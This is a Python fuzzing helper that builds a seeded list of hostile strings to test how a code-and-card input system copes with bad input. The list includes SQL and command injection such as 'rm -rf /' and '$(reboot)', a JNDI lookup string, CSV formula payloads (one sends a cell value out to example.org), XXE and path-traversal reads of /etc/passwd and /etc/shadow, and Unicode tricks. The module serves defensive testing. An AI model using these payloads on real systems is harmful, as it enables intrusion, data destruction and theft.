"""Hostile strings: what codes, cards, fingers and files may hold. The same ones for a seed."""

# ruff: noqa: E501 - a string is one

from __future__ import annotations

import random

_BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
_UNSEEN = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u3164\U000e0041\ufe0f"
_MARKS = "\u0e48\u0e49\u0e4a\u0e31\u0e34\u0e38\u0e4d\u0301\u0308\u0336\u0489\u20dd"
_CONTROLS = "".join(map(chr, [*range(32), 0x7F, *range(0x80, 0xA0)]))
_BREAKERS = "\"'`\\;,:=<>&%_*?|$(){}[]#\u2028\u2029\x85\r\n\t\x00\ufffd\uffff"
_LONE = "\ud800\udfff\udc80\udcff"
_DIGITS = "๐๑๒๓๔๕๖๗๘๙٠١٢٣٤٥۰۱۲𝟎𝟏①Ⅷ½"
_SPECIAL = _BIDI + _UNSEEN + _MARKS + _CONTROLS + _BREAKERS + _LONE + _DIGITS

HAND_MADE = (
    "", " ", "---", "***", "%", "_", "%%%%%%%%", "________", "*", "?", ".", "..", "\\", "0", "-1", "1e309",
    "NaN", "null", "None", "true", "\x00", "\x1d", "\ufeff", "\ud800", "\udcff" * 8,
    # Symbology prefixes (AIM), FNC1 and ECI as scanners give them.
    "]Q3K777001", "]C1\x1dK777001\x1d10AB", "]d2\x1d01095011010209171719050810AB", "\\000026K777001",
    "]e0", "\x1b\x1d\x04", "\x0f\x17\x1dK777001", "F11Alt+F4", "TK1A0123456789ABCDEFGHJK", "TK1", "tk1z" * 12,
    # SQL and search.
    "K777001' OR '1'='1'; DROP TABLE entry; --", "' UNION SELECT name FROM learner --", "K777%", "K77700_",
    "K777001\") OR (\"1\"=\"1", "x' AND randomblob(1000000000) --", "a* NEAR b*", '"unbalanced', "NOT", "AND OR NOT",
    "{name} {0.__class__}", "%s%n%x%p", "${jndi:ldap://example.org/a}", "$(reboot)", "`id`", "| rm -rf /", "; shutdown",
    # Formulas and what breaks CSV.
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "|cmd", "%0A=1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org/?x="&A1,"K777001")', '"=1+1"', "'=1+1", "a,b;c\td|e", 'a"b""c',
    'ก"\r\n"ข', "sep=;", "=" * 300, "\x00=1+1", " =1+1",
    # Markup and addresses.
    "<b>K777001</b>", "<img src=file:///etc/passwd>", '<img src="http://example.org/x.png">', "<a href='file:///'>x</a>",
    "<style>*{font-size:900px}</style>", "<!--", "<![CDATA[", "&lt;b&gt;", "&B", "&#0;", "<table width=99999>", "<?xml?>",
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', "**K777001**", "![x](http://example.org/x.png)",
    "https://example.org/pay?to=66812345678&amount=500", "file:///etc/shadow", "javascript:alert(1)", "tel:191",
    "WIFI:T:WPA;S:Library-Korat;P:secret-pass-9;;", "https://line.me/ti/p/~somchai.korat", "mailto:a@example.org",
    "BEGIN:VCARD\r\nFN:Somchai Jaidee\r\nTEL:+66812345678\r\nEND:VCARD", "MECARD:N:Somchai;;", "otpauth://totp/x?secret=y",
    "00020101021129370016A000000677010111011300668123456785802TH530376463048956", "LPA:1$example.org$X",
    # Paths.
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/zero", "CON", "NUL.txt", "C:\\", "\\\\host\\share", "~/.ssh",
    "walkin.key", "a/b\x00c",
    # Files of settings, calendars, JSON.
    '"""', "'''", 'x"\n[safety]\nencrypt = false\n#', "[[partner_cards]]", "a.b.c = 1", "\\u0000", "\\U00110000",
    "1979-05-27", "BEGIN:VEVENT", "END:VCALENDAR", "SUMMARY:x\r\n y", "RRULE:FREQ=SECONDLY", "DTSTART:99999999T999999",
    ";TZID=../../etc/passwd:20261122T120000", "X" * 75 + "\r\n X", "\\n\\,\\;", '{"id":"K777001","role":"admin"}', "[" * 900,
    '{"a":' * 300, "\\ud800", "]}",
    # Letters.
    "กก\u0e48\u0e49\u0e4a\u0e48\u0e49\u0e4a", "ก" + "\u0e49" * 500, "z" + "\u0301\u0489\u20dd" * 200, "K\u200b7\u200d7\u20607\u200c001",
    "\u202eK777001\u202c", "\u0645\u0631\u062d\u0628\u0627", "К777001", "Ｋ７７７００１", "๗๗๗๐๐๑", "K๗๗๗๐๐๑", "٧٧٧٠٠١", "𝐊𝟕𝟕𝟕", "ﷺ" * 40,
    "\U0001f431\u200d\U0001f4bb\U0001f468\u200d\U0001f469\u200d\U0001f467" * 3, "İıẞßſ", "\u0e33\u0e33\u0e33", "ๅ/-ภถุึคตจฤฺฉ", "\U0010ffff",
    "1101700203451", "0000000000000", "๑๑๐๑๗๐๐๒๐๓๔๕๑", "A7", "A๗", "a 7", "A-7", "A" + "9" * 400, "Z0", "9" * 5000,
    # The largest codes, and a line that does not end.
    "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ $%*+-./:" * 95 + "ABCDEFGHIJKLMNOPQRSTU", "7" * 7089, "\u0e01" * 985,
    "A" * 1_000_000, "<b>" * 300_000, "\x1d" * 1_000_000, "ก้" * 300_000,
)  # fmt: skip
"""Nobody's number, name or card is among them: K777001 is not given out in tests."""

LARGE = 100_000
"""Characters from which on a string is too large to be sent often."""


def corpus(many: int, seed: int = 20261122) -> list[str]:
    """So many strings: every control character, those made by hand, then changed ones of them."""
    chance = random.Random(seed)
    texts = [*HAND_MADE, *_CONTROLS, *(f"K777{c}001" for c in _SPECIAL)]
    small = [text for text in HAND_MADE if len(text) < LARGE]
    while len(texts) < many:
        texts.append(_changed(chance, small))
    return texts[:many] if many > len(HAND_MADE) else [*chance.sample(texts, many)]


def _changed(chance: random.Random, small: list[str]) -> str:
    made = list(chance.choice(small)[: chance.choice((20, 60, 400))])
    for _ in range(chance.randrange(1, 9)):
        at = chance.randrange(len(made) + 1)
        match chance.randrange(5):
            case 0:
                made.insert(at, chance.choice(_SPECIAL))
            case 1:
                made[at:at] = chance.choice(_SPECIAL) * chance.randrange(1, 40)
            case 2:
                made.insert(at, chr(chance.randrange(0x110000)))
            case 3:
                del made[at : at + 3]
            case _:
                made[at:at] = chance.choice(small)[:40]
    return "".join(made)
